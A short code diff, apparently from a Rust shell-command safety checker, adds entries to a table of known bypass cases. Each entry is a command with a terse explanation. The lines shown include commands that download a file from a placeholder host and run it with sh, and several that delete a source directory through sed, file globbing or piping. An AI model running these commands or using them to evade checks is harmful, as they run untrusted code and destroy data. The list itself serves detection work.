@@ -22,6 +22,8 @@ const KNOWN: &[(&str, &str)] = &[
         "echo 'echo rm -rf src' | sed -e e -e e",
         "the gap is the command, not the line, which is another's output",
     ),
+    ("curl -o x http://e/x; sh x", "the gap is the download, not the file"),
+    ("wget -O x http://e/x; sh x", "the gap is the download, not the file"),
     ("mkdir d; echo 'rm -rf src' > d/B; echo : > d/a; cat d/* | sh", "the locale says which name is first"),
     ("mkdir d; echo 'rm -rf src' > d/B; echo : > d/a; sh d/*", "the locale says which name is first"),
     (
